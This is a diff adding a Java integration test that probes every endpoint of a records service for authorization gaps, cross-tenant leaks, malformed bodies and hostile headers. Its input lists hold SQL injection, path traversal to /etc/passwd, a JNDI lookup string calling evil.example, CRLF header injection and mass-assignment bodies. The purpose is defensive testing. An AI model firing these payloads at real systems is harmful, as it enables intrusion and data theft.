@@ -1,0 +1,293 @@
+package fr.vigie.records;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import fr.vigie.testkit.TestIssuer;
+import fr.vigie.testkit.TestIssuer.Person;
+import fr.vigie.testkit.TestKafka;
+import fr.vigie.testkit.TestPostgres;
+import io.quarkus.test.common.ResourceArg;
+import io.quarkus.test.common.WithTestResource;
+import io.quarkus.test.common.http.TestHTTPResource;
+import io.quarkus.test.junit.QuarkusTest;
+import io.vertx.core.json.JsonObject;
+import java.io.IOException;
+import java.net.URI;
+import java.net.URLEncoder;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpRequest.BodyPublishers;
+import java.net.http.HttpResponse;
+import java.net.http.HttpResponse.BodyHandlers;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Locale;
+import java.util.Set;
+import java.util.UUID;
+import org.jspecify.annotations.Nullable;
+import org.junit.jupiter.api.Test;
+
+/// ATTACKS 21, 56, 57: every endpoint that the service's own OpenAPI page names is asked by those
+/// it is not for, about persons of others, and with what no client of ours would send. An endpoint
+/// that comes tomorrow is tried tomorrow.
+@QuarkusTest
+@WithTestResource(
+    value = TestPostgres.class,
+    initArgs = @ResourceArg(name = "database", value = "records"))
+@WithTestResource(TestKafka.class)
+@WithTestResource(TestIssuer.class)
+@WithTestResource(TestKeys.class)
+class HostileInputTest {
+
+  private static final int SERIES = 95;
+  private static final int NUMBER = 9_500;
+  private static final String IMPORT = "/v1/imports/persons";
+  private static final Set<String> OF_THE_LAUNCHER = Set.of(IMPORT, "/v1/registrations");
+  private static final Set<String> METHODS = Set.of("get", "put", "post", "delete", "patch");
+
+  private static final List<String> ODD =
+      List.of(
+          " ",
+          "%",
+          "\u0000",
+          "\r\nX-Evil: 1",
+          "' or 1=1--",
+          "../../etc/passwd",
+          "..%2f..%2f",
+          "-1",
+          "99999999999999999999",
+          "null",
+          "{{7*7}}",
+          "${jndi:ldap://evil.example/a}",
+          "<script>alert(1)</script>",
+          "\u202Ea",
+          "é",
+          "💥",
+          "1-1-1-1-1",
+          "00000000-0000-0000-0000-00000000000",
+          "a".repeat(3_000));
+
+  private static final List<String> ODD_BODIES =
+      List.of(
+          "",
+          "null",
+          "[]",
+          "0",
+          "\"text\"",
+          "{",
+          "{}x",
+          "{\"a\":1}{\"b\":2}",
+          "{\"number\":\"98765400001\",\"number\":\"98765400002\"}",
+          "{\"name\":{\"name\":{\"name\":\"x\"}}}",
+          "{\"number\":1e999999999}",
+          "{\"name\":\"" + "a".repeat(100_000) + "\"}",
+          "[".repeat(5_000),
+          "{\"a\":".repeat(5_000),
+          "{\"\\u0000\":\"\\uD800\"}",
+          // Mass assignment: what only the service may say.
+          "{\"organisation\":\"CE-01\",\"by\":\"x\",\"roles\":[\"auditor\"],\"advisor\":\"x\","
+              + "\"budget\":1000000,\"isAdmin\":true,\"__proto__\":{}}");
+
+  @TestHTTPResource String service = "";
+
+  @TestHTTPResource(value = "/openapi?format=json", management = true)
+  String page = "";
+
+  private final HttpClient http =
+      HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
+
+  /// One endpoint of the page.
+  private record Endpoint(String method, String path, boolean takesJson) {
+    boolean isAbout(String parameter) {
+      return path.contains("{" + parameter + "}");
+    }
+
+    String with(String value) {
+      return path.replaceAll(
+          "\\{[^}]+}",
+          java.util.regex.Matcher.quoteReplacement(
+              URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20")));
+    }
+  }
+
+  @Test
+  void nobody_without_a_token_a_role_or_an_agent_behind_is_answered() throws Exception {
+    for (var endpoint : endpoints()) {
+      var path = endpoint.with(UUID.randomUUID().toString());
+      assertThat(ask(endpoint, path, null, "{}").statusCode()).as("%s", endpoint).isEqualTo(401);
+      for (var role : List.of("auditor", "desk", "account-admin", "nobody")) {
+        assertThat(ask(endpoint, path, bearer(person("FT", "FT-01", role)), "{}").statusCode())
+            .as("%s as %s", endpoint, role)
+            .isEqualTo(403);
+      }
+      if (!OF_THE_LAUNCHER.contains(endpoint.path())) {
+        // R32: a service account that names no agent.
+        assertThat(ask(endpoint, path, "Vigie-Service launcher " + TestKeys.LAUNCHER, "{}"))
+            .extracting(HttpResponse::statusCode)
+            .as("%s", endpoint)
+            .isEqualTo(403);
+      }
+    }
+  }
+
+  @Test
+  void another_tenants_person_and_nobody_are_the_same_at_every_endpoint() throws Exception {
+    var advisor = UUID.randomUUID().toString();
+    Door.take(TestPeople.line(SERIES, NUMBER, advisor)).then().statusCode(200);
+    var theirs = TestPeople.person(SERIES, NUMBER);
+    Door.until(() -> Door.open(Door.advisor(advisor), theirs).statusCode() == 200);
+
+    for (var endpoint : endpoints()) {
+      if (!endpoint.isAbout("ref")) {
+        continue;
+      }
+      for (var stranger :
+          List.of(person("CE-01", "CE-01", "advisor"), person("FT", "FT-01", "advisor"))) {
+        var answer = ask(endpoint, endpoint.with(theirs.toString()), bearer(stranger), "{}");
+        var nobodys =
+            ask(endpoint, endpoint.with(UUID.randomUUID().toString()), bearer(stranger), "{}");
+        assertThat(answer.statusCode()).as("%s", endpoint).isBetween(400, 499);
+        assertThat(answer.statusCode()).as("%s", endpoint).isEqualTo(nobodys.statusCode());
+        assertThat(withoutReference(answer))
+            .as("%s", endpoint)
+            .isEqualTo(withoutReference(nobodys));
+      }
+    }
+  }
+
+  @Test
+  void what_no_client_sends_is_refused_and_says_nothing_of_the_inside() throws Exception {
+    for (var endpoint : endpoints()) {
+      if (endpoint.path().contains("{")) {
+        for (var odd : ODD) {
+          isRefused(endpoint, ask(endpoint, endpoint.with(odd), everyRole(), "{}"));
+        }
+      }
+      if (endpoint.takesJson()) {
+        var path = endpoint.with(UUID.randomUUID().toString());
+        for (var body : ODD_BODIES) {
+          isRefused(endpoint, ask(endpoint, path, everyRole(), body));
+        }
+      }
+      for (var odd : List.of("a".repeat(3_000), "' or 1=1--", "interview;drop", "é")) {
+        var answer = headers(endpoint, odd);
+        assertThat(answer.statusCode()).as("%s", endpoint).isLessThan(500);
+        saysNothing(endpoint, answer);
+      }
+    }
+  }
+
+  @Test
+  void a_body_beyond_a_mebibyte_is_not_read() throws Exception {
+    for (var endpoint : endpoints()) {
+      if (endpoint.takesJson()) {
+        var path = endpoint.with(UUID.randomUUID().toString());
+        try {
+          var answer = ask(endpoint, path, everyRole(), " ".repeat(2_000_000));
+          assertThat(answer.statusCode()).as("%s", endpoint).isEqualTo(413);
+        } catch (IOException _) {
+          // Cut off while it was still sending.
+        }
+      }
+    }
+  }
+
+  // A mistake in the fields is told before anybody is looked for, and says which address it was.
+  private static String withoutReference(HttpResponse<String> answer) {
+    return answer.body().replaceAll("[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}", "");
+  }
+
+  private static void isRefused(Endpoint endpoint, HttpResponse<String> answer) {
+    assertThat(answer.statusCode()).as("%s: %s", endpoint, answer.body()).isBetween(400, 499);
+    saysNothing(endpoint, answer);
+  }
+
+  private static void saysNothing(Endpoint endpoint, HttpResponse<String> answer) {
+    assertThat(answer.headers().map()).doesNotContainKey("X-Evil").doesNotContainKey("x-evil");
+    assertThat(answer.body().toLowerCase(Locale.ROOT))
+        .as("%s", endpoint)
+        .doesNotContain("exception", "at fr.vigie", "select ", "jackson", "io.vertx");
+  }
+
+  private List<Endpoint> endpoints() throws Exception {
+    var answer =
+        http.send(HttpRequest.newBuilder(URI.create(page)).build(), BodyHandlers.ofString());
+    assertThat(answer.statusCode()).isEqualTo(200);
+    var paths = new JsonObject(answer.body()).getJsonObject("paths");
+    var all = new ArrayList<Endpoint>();
+    for (var path : paths.fieldNames()) {
+      var item = paths.getJsonObject(path);
+      for (var method : item.fieldNames()) {
+        if (METHODS.contains(method)) {
+          var body = item.getJsonObject(method).getJsonObject("requestBody");
+          all.add(
+              new Endpoint(
+                  method.toUpperCase(Locale.ROOT),
+                  path,
+                  body != null
+                      && body.getJsonObject("content").fieldNames().stream()
+                          .anyMatch(type -> type.contains("application/json"))));
+        }
+      }
+    }
+    assertThat(all).hasSizeGreaterThan(15);
+    return all;
+  }
+
+  private static Person person(String organisation, String agency, String... roles) {
+    return new Person(UUID.randomUUID().toString(), "x", organisation, agency, List.of(roles));
+  }
+
+  // Somebody else each time: whoever is refused that often is frozen.
+  private static String everyRole() {
+    return bearer(person("FT", "FT-01", "advisor", "manager", "privacy-officer"));
+  }
+
+  private static String bearer(Person person) {
+    return "Bearer " + TestIssuer.running().token(person);
+  }
+
+  private HttpResponse<String> ask(
+      Endpoint endpoint, String path, @Nullable String authorization, String body)
+      throws Exception {
+    var request = request(endpoint, path, authorization, body).build();
+    try {
+      return http.send(request, BodyHandlers.ofString());
+    } catch (IOException _) {
+      // The connection was closed behind a body that was not read to its end.
+      return http.send(request, BodyHandlers.ofString());
+    }
+  }
+
+  private HttpResponse<String> headers(Endpoint endpoint, String odd) throws Exception {
+    var path = endpoint.with(UUID.randomUUID().toString());
+    return http.send(
+        request(endpoint, path, everyRole(), "{}")
+            .setHeader("Vigie-Purpose", odd.replaceAll("[^ -~]", "?"))
+            .setHeader("Vigie-Reason", odd.replaceAll("[^ -~]", "?"))
+            .setHeader("Idempotency-Key", odd.replaceAll("[^ -~]", "?"))
+            .setHeader("X-Correlation-Id", odd.replaceAll("[^ -~]", "?"))
+            .build(),
+        BodyHandlers.ofString());
+  }
+
+  private HttpRequest.Builder request(
+      Endpoint endpoint, String path, @Nullable String authorization, String body) {
+    var request =
+        HttpRequest.newBuilder(URI.create(service).resolve(path))
+            .header("Vigie-Purpose", "interview")
+            .header(
+                "Content-Type",
+                endpoint.path().equals(IMPORT) ? "application/x-ndjson" : "application/json")
+            .method(
+                endpoint.method(),
+                endpoint.method().equals("GET") || endpoint.method().equals("DELETE")
+                    ? BodyPublishers.noBody()
+                    : BodyPublishers.ofString(body));
+    if (authorization != null) {
+      request.header("Authorization", authorization);
+    }
+    return request;
+  }
+}
